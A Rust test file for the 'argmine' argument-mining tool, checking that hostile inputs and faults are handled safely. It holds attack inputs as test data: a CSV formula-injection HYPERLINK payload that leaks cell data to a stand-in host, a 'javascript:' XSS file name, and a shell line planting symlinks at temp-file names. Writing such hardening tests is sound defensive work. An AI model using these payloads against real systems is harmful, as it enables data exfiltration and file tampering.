//! Issue 23: the cases a hostile-input and fault probe of `argmine mine` broke, one test each,
//! named after the case. Each failed before its fix.

mod util;

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};
use util::{bin, read, stderr};

const DOC: &str =
    "Taxes should rise next year. The data show that revenue fell by four percent in 2020.\n\n\
Moreover, the deficit is the largest in a decade. Critics say the plan will fail.\n";

fn tmp() -> tempfile::TempDir {
    tempfile::tempdir().unwrap()
}

fn write(p: impl AsRef<Path>, text: &str) -> PathBuf {
    let p = p.as_ref();
    if let Some(d) = p.parent() {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(p, text).unwrap();
    p.to_path_buf()
}

/// `argmine ARGS` in `dir`.
fn run(dir: &Path, args: &[&str]) -> Output {
    bin().args(args).current_dir(dir).output().unwrap()
}

/// `argmine mine -q in --out out ARGS` in `dir`.
fn mine_in(dir: &Path, args: &[&str]) -> Output {
    run(
        dir,
        &[&["mine", "-q", "in", "--out", "out"][..], args].concat(),
    )
}

/// `argmine mine -q in --out out --format FORMATS` in `dir`, which must succeed.
fn mine_formats(dir: &Path, formats: &str) {
    let o = mine_in(dir, &["--format", formats]);
    assert!(o.status.success(), "{}", stderr(&o));
}

/// The records of a CSV file (header row excluded).
fn records(p: impl AsRef<Path>) -> Vec<csv::StringRecord> {
    csv::Reader::from_path(p.as_ref())
        .unwrap()
        .records()
        .map(|r| r.unwrap())
        .collect()
}

/// documents.csv rows as (doc_id, status, error).
fn documents(out: &Path) -> Vec<(String, String, String)> {
    records(out.join("documents.csv"))
        .iter()
        .map(|r| (r[0].to_string(), r[7].to_string(), r[8].to_string()))
        .collect()
}

#[test]
fn csv_formula_injection() {
    let d = tmp();
    let text = "=HYPERLINK(\"http://x/?\"&A1,\"y\") is what the attacker wrote here.\n\n\
                - a bullet that begins with a dash says that taxes should rise.\n\n\
                @SUM(A1:A9) opens this last sentence about the budget.\n";
    write(d.path().join("in/=cmd.txt"), text);
    let o = run(d.path(), &["mine", "-q", "in", "--out", "out"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let mut cells = Vec::new();
    for f in ["sentences.csv", "links.csv", "documents.csv"] {
        for r in records(d.path().join("out").join(f)) {
            cells.extend(r.iter().map(str::to_string));
        }
    }
    for c in &cells {
        let formula = c.starts_with(['=', '+', '@', '\t', '\r'])
            || (c.starts_with('-') && c.parse::<f64>().is_err());
        assert!(!formula, "a spreadsheet would run {c:?}");
    }
    assert!(cells.iter().any(|c| c.starts_with("'=HYPERLINK(")));
    assert!(
        cells.iter().any(|c| c == "'=cmd"),
        "the doc id is neutralised"
    );
    // argmine eval reads the ids back as they were.
    let s = read(d.path().join("out/sentences.csv"));
    assert!(s.contains("'=cmd,"));
    // --csv-raw writes the cells as the text has them.
    let o = run(d.path(), &["mine", "-q", "in", "--out", "raw", "--csv-raw"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let raw: Vec<String> = records(d.path().join("raw/sentences.csv"))
        .iter()
        .map(|r| r[12].to_string())
        .collect();
    assert!(raw.iter().any(|c| c.starts_with("=HYPERLINK(")), "{raw:?}");
    assert!(raw.iter().any(|c| c.starts_with("- a bullet")), "{raw:?}");
}

#[test]
fn javascript_links_in_the_html_index() {
    let d = tmp();
    for name in [
        "javascript:alert(document.domain).txt",
        "a#b?c.txt",
        "tab\there.txt",
        "line\nbreak.txt",
    ] {
        write(d.path().join("in").join(name), DOC);
    }
    let o = mine_in(d.path(), &["--format", "html"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let index = read(d.path().join("out/html/index.html"));
    let hrefs: Vec<&str> = index
        .split("href=\"")
        .skip(1)
        .map(|s| &s[..s.find('"').unwrap()])
        .collect();
    assert_eq!(hrefs.len(), 4, "{index}");
    for h in hrefs {
        assert!(h.starts_with("./"), "{h}");
        assert!(
            !h.contains([':', '#', '?', '\t', '\n', '\r', ' ']),
            "{h} could be read as a scheme, fragment or query"
        );
        // The link leads to the report: percent-decoded, the file exists.
        let mut bytes = Vec::new();
        let mut it = h[2..].bytes();
        while let Some(b) = it.next() {
            if b == b'%' {
                let hex: Vec<u8> = it.by_ref().take(2).collect();
                bytes.push(u8::from_str_radix(std::str::from_utf8(&hex).unwrap(), 16).unwrap());
            } else {
                bytes.push(b);
            }
        }
        let rel = String::from_utf8(bytes).unwrap();
        assert!(
            d.path().join("out/html").join(&rel).is_file(),
            "{h} -> {rel}"
        );
    }
}

#[test]
fn report_collisions() {
    let d = tmp();
    for name in ["index.txt", "_.txt", "...txt", "Case.txt", "case.txt"] {
        write(d.path().join("in").join(name), DOC);
    }
    mine_formats(d.path(), "html,json,dot");
    let count = |dir: &str| {
        std::fs::read_dir(d.path().join("out").join(dir))
            .unwrap()
            .count()
    };
    assert_eq!(count("html"), 5 + 1, "five reports and the index");
    assert_eq!(count("json"), 5);
    assert_eq!(count("dot"), 5);
    let index = read(d.path().join("out/html/index.html"));
    assert!(index.contains("5 documents"), "the index is the batch's");
    for f in std::fs::read_dir(d.path().join("out/json")).unwrap() {
        let doc: serde_json::Value = serde_json::from_str(&read(f.unwrap().path())).unwrap();
        assert!(doc["doc_id"].is_string());
    }
}

#[test]
fn planted_symlinks_at_temporary_names() {
    let d = tmp();
    write(d.path().join("in/a.txt"), DOC);
    let victim = write(d.path().join("victim"), "precious\n");
    std::fs::create_dir(d.path().join("out")).unwrap();
    // The name the process would use is known before it starts: its pid.
    let o = Command::new("sh")
        .arg("-c")
        .arg(
            "for f in sentences links documents; do ln -s ../victim out/.$f.csv.tmp-$$; done; \
             exec \"$0\" mine -q in --out out",
        )
        .arg(env!("CARGO_BIN_EXE_argmine"))
        .current_dir(d.path())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(read(&victim), "precious\n", "the planted link was followed");
    assert!(read(d.path().join("out/documents.csv")).contains(",ok,"));
    // A format folder that is a link out of --out is refused, and nothing is written there.
    let elsewhere = d.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    symlink(&elsewhere, d.path().join("out/html")).unwrap();
    let o = mine_in(d.path(), &["--format", "html"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("is a symbolic link"), "{}", stderr(&o));
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
}

#[test]
fn model_header_integrity() {
    let d = tmp();
    write(d.path().join("a.txt"), DOC);
    let mut model = std::fs::read(util::root().join("models/default/model.bin")).unwrap();
    let text = String::from_utf8_lossy(&model).into_owned();
    let at = text.find("\"link_threshold\": ").unwrap() + 18;
    model[at] = if model[at] == b'0' { b'1' } else { b'0' };
    std::fs::write(d.path().join("edited.bin"), &model).unwrap();
    write(
        d.path().join("config.json"),
        r#"{"classifier": {"type": "learned", "path": "edited.bin"}, "linker": {"type": "learned", "path": "edited.bin"}}"#,
    );
    let o = run(
        d.path(),
        &[
            "mine",
            "-q",
            "a.txt",
            "--out",
            "out",
            "--config",
            "config.json",
        ],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("damaged or edited"), "{}", stderr(&o));
}

/// Waits for `child` at most `limit`; kills it and panics when it takes longer.
fn wait_at_most(mut child: std::process::Child, limit: Duration) -> Output {
    let start = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed() > limit {
            child.kill().unwrap();
            panic!("still running after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

fn mkfifo(p: &Path) {
    assert!(Command::new("mkfifo").arg(p).status().unwrap().success());
}

#[test]
fn a_fifo_named_on_the_command_line() {
    let d = tmp();
    write(d.path().join("ok.txt"), DOC);
    mkfifo(&d.path().join("fifo.txt"));
    let child = bin()
        .args(["mine", "-q", "fifo.txt", "ok.txt", "--out", "out"])
        .current_dir(d.path())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let o = wait_at_most(child, Duration::from_secs(60));
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(stderr(&o).contains("FIFO"), "{}", stderr(&o));
    let docs = documents(&d.path().join("out"));
    assert_eq!(docs[0].1, "error");
    assert_eq!(docs[1].1, "ok");
}

#[test]
fn fifos_sockets_and_broken_links_inside_a_folder() {
    let d = tmp();
    let dir = d.path().join("in");
    write(dir.join("ok.txt"), DOC);
    mkfifo(&dir.join("fifo.txt"));
    let _socket = std::os::unix::net::UnixListener::bind(dir.join("socket.txt")).unwrap();
    symlink("nowhere.txt", dir.join("broken.txt")).unwrap();
    let o = run(d.path(), &["mine", "-q", "in", "--out", "out"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let docs = documents(&d.path().join("out"));
    let status = |id: &str| {
        docs.iter()
            .find(|x| x.0 == id)
            .unwrap_or_else(|| panic!("{id} not reported: {docs:?}"))
            .clone()
    };
    assert_eq!(status("ok").1, "ok");
    for (id, what) in [("fifo", "FIFO"), ("socket", "socket"), ("broken", "broken")] {
        let (_, st, err) = status(id);
        assert_eq!(st, "skipped", "{id}");
        assert!(err.contains(what), "{id}: {err}");
    }
}

#[test]
fn symlinks_to_files_inside_a_folder() {
    let d = tmp();
    write(d.path().join("real/doc.txt"), DOC);
    std::fs::create_dir(d.path().join("links")).unwrap();
    symlink("../real/doc.txt", d.path().join("links/doc.txt")).unwrap();
    symlink("..", d.path().join("links/loop")).unwrap();
    let o = run(d.path(), &["mine", "-q", "links", "--out", "out"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let docs = documents(&d.path().join("out"));
    assert_eq!(docs.len(), 2, "{docs:?}");
    assert_eq!((docs[0].0.as_str(), docs[0].1.as_str()), ("doc", "ok"));
    // The link to a folder (here a loop) is reported once, not followed.
    assert_eq!(
        (docs[1].0.as_str(), docs[1].1.as_str()),
        ("loop", "skipped")
    );
    assert!(docs[1].2.contains("not followed"));
}

#[test]
fn resume_with_another_config_or_format() {
    let d = tmp();
    write(d.path().join("in/a.txt"), DOC);
    write(d.path().join("in/b.txt"), &DOC.replace("Taxes", "Fees"));
    let base = util::root().join("eval/baseline.json");
    let base = base.to_str().unwrap();
    let o = run(d.path(), &["mine", "-q", "in", "--out", "out", "--resume"]);
    assert!(o.status.success(), "{}", stderr(&o));
    // Another model: the parts are not reused; the output is the other model's.
    let o = run(
        d.path(),
        &["mine", "in", "--out", "out", "--resume", "--config", base],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("2 mined again"), "{}", stderr(&o));
    let o = run(
        d.path(),
        &["mine", "-q", "in", "--out", "fresh", "--config", base],
    );
    assert!(o.status.success());
    assert_eq!(
        read(d.path().join("out/sentences.csv")),
        read(d.path().join("fresh/sentences.csv"))
    );
    // Other formats from the parts: every document in each, as a fresh run writes them.
    let fmt = ["--format", "jsonl,html,json"];
    let o = run(
        d.path(),
        &[
            &["mine", "in", "--out", "out", "--resume", "--config", base][..],
            &fmt,
        ]
        .concat(),
    );
    assert!(stderr(&o).contains("2 reused"), "{}", stderr(&o));
    let o = run(
        d.path(),
        &[
            &["mine", "-q", "in", "--out", "fresh", "--config", base][..],
            &fmt,
        ]
        .concat(),
    );
    assert!(o.status.success());
    for f in [
        "maps.jsonl",
        "html/index.html",
        "html/a.html",
        "json/b.json",
        "links.csv",
    ] {
        assert_eq!(
            read(d.path().join("out").join(f)),
            read(d.path().join("fresh").join(f)),
            "{f}"
        );
    }
    assert_eq!(read(d.path().join("out/maps.jsonl")).lines().count(), 2);
}

#[test]
fn two_runs_into_one_out() {
    let d = tmp();
    write(d.path().join("a.txt"), DOC);
    std::fs::create_dir(d.path().join("out")).unwrap();
    // Another run holds the folder's lock (as argmine takes it: flock on .argmine-lock).
    let mut lock = std::fs::File::create(d.path().join("out/.argmine-lock")).unwrap();
    lock.lock().unwrap();
    std::io::Write::write_all(&mut lock, b"pid 4242: argmine mine x --out out").unwrap();
    let o = run(d.path(), &["mine", "-q", "a.txt", "--out", "out"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("in use by another argmine run (pid 4242: argmine mine"),
        "{}",
        stderr(&o)
    );
    assert!(!d.path().join("out/documents.csv").exists());
    lock.unlock().unwrap();
    let o = run(d.path(), &["mine", "-q", "a.txt", "--out", "out"]);
    assert!(o.status.success(), "{}", stderr(&o));
}

#[test]
fn leftovers_of_killed_runs() {
    let d = tmp();
    write(d.path().join("a.txt"), DOC);
    // pid_max is at most 2^22 on Linux: these processes cannot exist.
    let dead = [
        "out/.sentences.csv.tmp-4194999",
        "out/.links.csv.tmp-4194998-Xy12AbCd",
        "out/json/.a.json.tmp-4194997-q1w2e3r4",
    ];
    for f in dead {
        write(d.path().join(f), "partial");
    }
    let alive = format!("out/.other.csv.tmp-{}-zzzzzzzz", std::process::id());
    write(d.path().join(&alive), "in progress");
    let o = run(d.path(), &["mine", "-q", "a.txt", "--out", "out"]);
    assert!(o.status.success(), "{}", stderr(&o));
    for f in dead {
        assert!(!d.path().join(f).exists(), "{f} left");
    }
    assert!(
        d.path().join(&alive).exists(),
        "a live process's file was removed"
    );
}

/// `size` bytes of the Milestones essays, repeated, ending on a character.
fn essays(size: usize) -> String {
    let mut names: Vec<PathBuf> = std::fs::read_dir(util::corpus("state-milestones/txt"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    names.sort();
    let mut all = String::new();
    for p in names.iter().take(40) {
        all.push_str(&read(p));
        all.push_str("\n\n");
    }
    let mut big: String = all.chars().cycle().take(size).collect();
    big.truncate(size);
    big
}

#[test]
fn finished_documents_are_saved_at_once() {
    let d = tmp();
    // One long document keeps the run busy while the short one finishes beside it.
    write(d.path().join("in/a-long.txt"), &essays(12 << 20));
    write(d.path().join("in/b-short.txt"), DOC);
    let parts = d.path().join("out/.argmine-parts");
    let mut child = bin()
        .args([
            "mine", "-q", "in", "--out", "out", "--resume", "--jobs", "2",
        ])
        .current_dir(d.path())
        .spawn()
        .unwrap();
    let start = Instant::now();
    let saved = loop {
        let n = std::fs::read_dir(&parts)
            .map(|r| {
                r.flatten()
                    .filter(|e| e.file_name().to_string_lossy().ends_with(".part"))
                    .count()
            })
            .unwrap_or(0);
        if n > 0
            || child.try_wait().unwrap().is_some()
            || start.elapsed() > Duration::from_secs(120)
        {
            break n;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let running = child.try_wait().unwrap().is_none();
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(running, "the long document finished first: make it longer");
    assert_eq!(
        saved, 1,
        "the short document's part is saved while the long one runs"
    );
    std::fs::remove_file(d.path().join("in/a-long.txt")).unwrap();
    let o = run(d.path(), &["mine", "in", "--out", "out", "--resume"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("1 reused"), "{}", stderr(&o));
}

#[test]
fn graphml_and_dot_with_forbidden_xml_characters() {
    let d = tmp();
    let text = "Taxes should rise \u{FFFE} next year \u{FFFF} now. The data show \u{0B} that revenue fell by four percent.\n";
    write(d.path().join("in/bell\u{07}id.txt"), text);
    mine_formats(d.path(), "graphml,dot");
    let check = |xml: &str| {
        let mut r = quick_xml::Reader::from_str(xml);
        loop {
            match r.read_event() {
                Ok(quick_xml::events::Event::Eof) => break,
                Ok(quick_xml::events::Event::Text(t)) => {
                    t.unescape().unwrap();
                }
                Ok(_) => {}
                Err(e) => panic!("not well-formed: {e}"),
            }
        }
        for c in xml.chars() {
            assert!(
                !matches!(c, '\u{0}'..='\u{8}' | '\u{B}' | '\u{C}' | '\u{E}'..='\u{1F}' | '\u{FFFE}' | '\u{FFFF}'),
                "XML 1.0 forbids {c:?}"
            );
        }
    };
    let graphml = read(d.path().join("out/graphml/bell\u{07}id.graphml"));
    check(&graphml);
    assert!(
        graphml.contains("key=\"label\""),
        "yEd and Gephi show the label"
    );
    let dot = read(d.path().join("out/dot/bell\u{07}id.dot"));
    check(&format!("<x>{}</x>", dot.replace(['<', '>', '&'], "_")));
}

#[test]
fn documents_above_the_size_limit() {
    let d = tmp();
    write(d.path().join("in/big.txt"), &DOC.repeat(20));
    write(d.path().join("in/small.txt"), DOC);
    let o = mine_in(d.path(), &["--max-document-size", "1K"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let docs = documents(&d.path().join("out"));
    assert_eq!(docs[0].1, "error");
    assert!(
        docs[0].2.contains("more than --max-document-size 1024"),
        "{}",
        docs[0].2
    );
    assert_eq!(docs[1].1, "ok");
    let o = mine_in(d.path(), &["--max-document-size", "0"]);
    assert!(o.status.success(), "{}", stderr(&o));
}

#[test]
fn jsonl_blank_lines_and_bom() {
    let input = "\u{feff}{\"id\": \"a\", \"text\": \"Taxes should rise. The data show that revenue fell.\"}\n\
                 \n\
                 {\"id\": \"b\", \"text\": \"Fees should rise.\"}\n";
    let mut child = bin()
        .args(["mine", "--jsonl", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(child.stdin.as_mut().unwrap(), input.as_bytes()).unwrap();
    drop(child.stdin.take());
    let o = child.wait_with_output().unwrap();
    let lines: Vec<serde_json::Value> = String::from_utf8(o.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 3, "one output line per input line");
    assert_eq!(lines[0]["doc_id"], "a", "the BOM is not an error");
    assert!(lines[0]["error"].is_null());
    assert_eq!(lines[1]["doc_id"], "line 2");
    assert!(lines[1]["error"].as_str().unwrap().contains("blank line"));
    assert_eq!(lines[2]["doc_id"], "b");
    assert_eq!(o.status.code(), Some(1));
}

#[test]
fn text_without_letters_is_none() {
    let d = tmp();
    write(d.path().join("dots.txt"), &".".repeat(200_000));
    write(
        d.path().join("numbers.txt"),
        "1.\n\n2.\n\n--- *** ---\n\n3.14 / 2.71 = 1.16.\n",
    );
    let o = run(
        d.path(),
        &["mine", "-q", "dots.txt", "numbers.txt", "--out", "out"],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let units = records(d.path().join("out/sentences.csv"));
    assert!(!units.is_empty());
    for r in &units {
        assert_eq!(&r[5], "none", "{:?}", &r[12][..r[12].len().min(40)]);
    }
}
